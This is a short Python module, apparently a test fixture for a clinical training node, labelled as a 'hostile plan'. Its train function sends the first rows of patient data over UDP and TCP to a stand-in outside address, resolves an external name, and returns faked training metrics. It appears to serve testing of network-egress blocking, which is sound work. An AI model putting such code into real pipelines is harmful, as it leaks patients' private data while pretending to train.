"""Hostile plan: sends patient values to an address outside the host (and resolves a name)."""

import socket

from clinical_node.plans.logistic_regression import build_model, evaluate  # noqa: F401


def train(model, x, y, hyper):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.sendto(repr(x[:5].tolist()).encode(), ("192.0.2.1", 53))
    socket.getaddrinfo("example.org", 443)
    with socket.create_connection(("192.0.2.1", 443), timeout=2) as conn:
        conn.sendall(b"x")
    return {"train_loss": 0.0, "local_steps": 1.0}
